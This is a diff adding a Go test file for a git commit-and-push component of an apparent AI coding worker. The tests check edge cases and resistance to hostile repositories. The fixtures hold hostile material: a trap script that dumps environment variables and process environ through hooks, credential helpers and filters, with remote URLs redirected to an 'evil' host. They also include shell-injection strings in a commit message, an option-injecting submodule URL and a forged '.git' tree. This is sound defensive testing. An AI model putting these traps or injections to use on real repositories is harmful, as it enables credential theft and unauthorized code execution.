@@ -1,0 +1,244 @@
+package gitops_test
+
+import (
+	"errors"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/ai-coding-worker/ai-coding-worker/gitops"
+)
+
+func TestNothingToCommit(t *testing.T) {
+	b := newBench(t, someFiles)
+	repo := b.clone()
+	b.startBranch(repo, "aicw/x")
+	if c := b.commit(repo, "x"); c.New || c.Hash != repo.Base() || c.Files != 0 {
+		t.Errorf("commit: %+v", c)
+	}
+}
+
+func TestCommitWhatAddAllWould(t *testing.T) {
+	b := newBench(t, map[string]string{"a": "1", "dir/f": "1", "gone": "1", "tool": "1", "kind": "1", ".gitignore": "*.log\n!keep.log\n"})
+	repo := b.clone()
+	b.startBranch(repo, "aicw/x")
+	b.sh(`
+		rm gone; chmod +x tool; rm -r dir; printf file > dir; rm kind; mkdir kind; printf 1 > kind/in
+		rm a; ln -s /etc/passwd a; ln -s tool rel; printf no > x.log; printf yes > keep.log
+		printf 1 > 'new
+line'; printf 2 > con; mkdir -p sub/emptydir; mkfifo pipe`)
+	c := b.commit(repo, "odd things")
+	want := b.sh("git ls-files -s | cut -d' ' -f1,3- | LC_ALL=C sort")
+	if !slices.Contains(strings.Split(want, "\n"), "120000 0\ta") || strings.Contains(want, "pipe") || strings.Contains(want, "x.log") {
+		t.Errorf("committed:\n%s", want)
+	}
+	if got := b.sh("git status --porcelain"); got != "" {
+		t.Errorf("left over:\n%s", got)
+	}
+	b.push(repo, c.Hash, "aicw/x")
+	if got := b.onHost("ls-tree", "-r", "aicw/x"); !strings.Contains(got, "120000") || !strings.Contains(got, "100755") {
+		t.Errorf("on the host:\n%s", got)
+	}
+	if got := b.onHost("cat-file", "-p", "aicw/x:a"); got != "/etc/passwd" {
+		t.Errorf("the absolute link points to %q", got)
+	}
+}
+
+func TestWhatCannotBeCommittedIsTold(t *testing.T) {
+	b := newBench(t, someFiles)
+	repo := b.clone()
+	b.startBranch(repo, "aicw/x")
+	b.sh(`git init -q unborn; echo x > unborn/f
+		git init -q born; git -C born -c user.name=x -c user.email=x commit -q --allow-empty -m x
+		rm README.md; mkfifo README.md; echo ok > fine`)
+	c := b.commit(repo, "x")
+	notes := strings.Join(c.Notes, "\n")
+	for _, want := range []string{"unborn", "born is a repository of its own", "README.md"} {
+		if !strings.Contains(notes, want) {
+			t.Errorf("notes do not tell of %s:\n%s", want, notes)
+		}
+	}
+	if got := b.sh("git show --name-only --format= HEAD"); got != "born\nfine" {
+		t.Errorf("committed:\n%s", got)
+	}
+	b.push(repo, c.Hash, "aicw/x")
+}
+
+func TestUnreadableFile(t *testing.T) {
+	b := newBench(t, someFiles)
+	if b.agent.UID() == 0 {
+		t.Fatal("the agent is root")
+	}
+	repo := b.clone()
+	b.sh("echo x > closed; chmod 0 closed; echo ok > fine")
+	c := b.commit(repo, "x")
+	if len(c.Notes) == 0 || !strings.Contains(c.Notes[0], "closed") || c.Files != 1 {
+		t.Errorf("commit: %+v", c)
+	}
+}
+
+func TestAgentsOwnCommits(t *testing.T) {
+	tests := map[string]struct {
+		script  string
+		commits int
+	}{
+		"on the session's branch": {"git commit -q --allow-empty -m own", 1},
+		"on a branch of its own":  {"git checkout -q -b mine; git commit -q --allow-empty -m own; git commit -q --allow-empty -m own2", 2},
+		"detached":                {"git checkout -q --detach; git commit -q --allow-empty -m own", 1},
+		"with changes beside":     {"echo 1 > own; git add own; git commit -q -m own; echo 2 > rest", 2},
+		"merged":                  {"git checkout -q -b mine; git commit -q --allow-empty -m own; git checkout -q -; git merge -q --no-ff mine -m merge", 2},
+	}
+	for name, tt := range tests {
+		t.Run(name, func(t *testing.T) {
+			b := newBench(t, someFiles)
+			repo := b.clone()
+			b.startBranch(repo, "aicw/x")
+			b.sh(tt.script)
+			c := b.commit(repo, "feat: x")
+			if !c.New || c.Commits != tt.commits {
+				t.Errorf("commit: %+v", c)
+			}
+			b.push(repo, c.Hash, "aicw/x")
+			if got := b.onHost("rev-list", "--count", "main..aicw/x"); got != b.sh("git rev-list --count origin/main..HEAD") {
+				t.Errorf("%s commits on the host", got)
+			}
+			if got := b.onHost("log", "--format=%an", "main..aicw/x"); strings.Trim(strings.ReplaceAll(got, "AI Coding Worker", ""), "\n") != "" {
+				t.Errorf("authors:\n%s", got)
+			}
+			if got := b.onHost("for-each-ref", "--format=%(refname)"); got != "refs/heads/aicw/x\nrefs/heads/main" {
+				t.Errorf("refs on the host:\n%s", got)
+			}
+		})
+	}
+}
+
+func TestCommitInTheMiddleOfSomething(t *testing.T) {
+	tests := map[string]string{
+		"a merge conflict": `git checkout -q -b other; echo 1 > README.md; git commit -qam one; git checkout -q -; echo 2 > README.md; git commit -qam two
+			! git merge -q other >/dev/null`,
+		"a rebase": `git checkout -q -b other; echo 1 > README.md; git commit -qam one; git checkout -q -; echo 2 > README.md; git commit -qam two
+			! git rebase -q other >/dev/null 2>&1`,
+		"a killed git": "echo 1 > README.md; : > .git/index.lock; : > .git/HEAD.lock; : > .git/refs/heads/aicw/x.lock",
+	}
+	for name, script := range tests {
+		t.Run(name, func(t *testing.T) {
+			b := newBench(t, someFiles)
+			repo := b.clone()
+			b.startBranch(repo, "aicw/x")
+			b.sh(script)
+			c := b.commit(repo, "wip: x")
+			if !c.New {
+				t.Errorf("commit: %+v", c)
+			}
+			if got := b.sh("git status --porcelain"); got != "" {
+				t.Errorf("left over:\n%s", got)
+			}
+			b.push(repo, c.Hash, "aicw/x")
+		})
+	}
+}
+
+func TestMessageIsTakenLiterally(t *testing.T) {
+	b := newBench(t, someFiles)
+	repo := b.clone()
+	b.sh("echo 1 > a")
+	prompt := "Add \"$(touch /tmp/p)\" `id`\n\n# not a comment\nCo-authored-by: x <x@y>\x00\x1b[31m"
+	b.commit(repo, gitops.CommitMessage(prompt, false))
+	want := "feat: add \"$(touch /tmp/p)\" `id\n\nAdd \"$(touch /tmp/p)\" `id`\n\n# not a comment\nCo-authored-by: x <x@y>[31m"
+	if diff := cmp.Diff(want, b.sh("git log -1 --format=%B")); diff != "" {
+		t.Errorf("message (-want +got):\n%s", diff)
+	}
+}
+
+// traps are settings and files by which a repository makes git run something; each appends what it sees to the file $1.
+const traps = `
+	cat > "$PWD/../trap" <<'END'
+#!/bin/sh
+{ id -u; env; tr '\0' '\n' < /proc/$PPID/environ; } >> "$(dirname "$0")/seen" 2>/dev/null
+[ "$1" = clean ] && exec cat
+exit 0
+END
+	chmod 755 "$PWD/../trap"; trap=$(readlink -f "$PWD/../trap")
+	mkdir -p .git/hooks hooks
+	for h in pre-commit commit-msg prepare-commit-msg post-commit pre-push post-checkout post-merge post-index-change reference-transaction post-rewrite pre-auto-gc; do
+		cp "$trap" .git/hooks/$h; done
+	git config core.fsmonitor "$trap"; git config core.hooksPath "$PWD/.git/hooks"; git config core.sshCommand "$trap"; git config core.pager "$trap"
+	git config core.editor "$trap"; git config gpg.program "$trap"; git config commit.gpgSign true; git config diff.external "$trap"
+	git config filter.evil.clean "$trap clean"; git config filter.evil.smudge "$trap clean"; git config filter.evil.required true
+	git config credential.helper "$trap"; git config http.proxy "$EVIL"; git config "url.$EVIL/.insteadOf" "$ORIGIN"; git config "url.$EVIL/.pushInsteadOf" "$ORIGIN"
+	git config remote.origin.pushurl "$EVIL/x.git"; git config remote.origin.url "$EVIL/y.git"; git config core.alternateRefsCommand "$trap"
+	git config uploadpack.packObjectsHook "$trap"; git config extensions.partialClone origin; git config remote.origin.promisor true
+	printf '* filter=evil diff=evil\n' > .gitattributes`
+
+func TestHostileConfiguration(t *testing.T) {
+	b := newBench(t, someFiles)
+	evil := newBench(t, someFiles).host
+	repo := b.clone()
+	b.startBranch(repo, "aicw/x")
+	b.sh("EVIL=" + evil.URL() + " ORIGIN=" + b.host.URL() + "\n" + traps + "\necho 1 > new")
+	c := b.commit(repo, "x")
+	b.push(repo, c.Hash, "aicw/x")
+	if err := repo.Close(); err != nil {
+		t.Fatal(err)
+	}
+	b.hostCommit("aicw/x", map[string]string{"later": "1"})
+	if _, moved := b.reopen("aicw/x"); moved != gitops.MovedForward {
+		t.Errorf("moved: %v", moved)
+	}
+
+	if got := evil.Requests(); len(got) > 0 {
+		t.Errorf("the other host was asked: %+v", got)
+	}
+	seen := b.sh("cat ../seen")
+	if strings.Contains(seen, token) {
+		t.Error("something of the repository saw the token")
+	}
+	for line := range strings.Lines(seen) {
+		if line == "0\n" && b.agent.UID() != 0 {
+			t.Error("something of the repository ran as root")
+		}
+	}
+	// The filter is the one that cannot be switched off. That it ran shows that the trap works.
+	if !strings.Contains(seen, "GIT_CONFIG_GLOBAL=/dev/null") {
+		t.Errorf("the filter did not run under the worker's settings:\n%s", seen)
+	}
+	if got := b.onHost("rev-parse", "aicw/x~1"); got != c.Hash {
+		t.Errorf("the host has %s below, want %s", got, c.Hash)
+	}
+}
+
+func TestRepositoryThatIsGone(t *testing.T) {
+	b := newBench(t, someFiles)
+	repo := b.clone()
+	b.sh("rm -rf .git")
+	if _, err := repo.Commit(t.Context(), "x", nil); !errors.Is(err, gitops.ErrNoCheckout) {
+		t.Errorf("commit: %v", err)
+	}
+}
+
+func TestForbiddenObjects(t *testing.T) {
+	tests := map[string]string{
+		"a folder .git": `t=$(git mktree </dev/null); r=$(printf '040000 tree %s\t.git\n' $t | git hash-object --literally -t tree -w --stdin 2>/dev/null || true)
+			raw() { printf '40000 .git\0'; printf %s $t | sed 's/../\\x&/g' | xargs -0 printf '%b'; }; r=$(raw | git hash-object --literally -t tree -w --stdin); git update-ref HEAD $(git commit-tree $r -p HEAD -m x)`,
+		"a submodule's url that is an option": `printf '[submodule "x"]\n\tpath = x\n\turl = --upload-pack=touch\n' > .gitmodules; git add .gitmodules; git commit -qm x`,
+		"a tree that is missing":              `r=$(git rev-parse HEAD^{tree}); echo unique-$$ > u; git add u; git commit -qm x; f=$(git rev-parse HEAD:u); rm -f .git/objects/$(echo $f | cut -c1-2)/$(echo $f | cut -c3-)`,
+	}
+	for name, script := range tests {
+		t.Run(name, func(t *testing.T) {
+			b := newBench(t, someFiles)
+			repo := b.clone()
+			b.startBranch(repo, "aicw/x")
+			b.sh(script)
+			hash := b.sh("git rev-parse HEAD")
+			_, err := repo.Push(t.Context(), hash, "aicw/x")
+			if !errors.Is(err, gitops.ErrBadObjects) && !errors.Is(err, gitops.ErrBadCheckout) {
+				t.Errorf("push: %v", err)
+			}
+			if got := b.onHost("for-each-ref", "--format=%(refname)"); got != "refs/heads/main" {
+				t.Errorf("refs on the host:\n%s", got)
+			}
+		})
+	}
+}
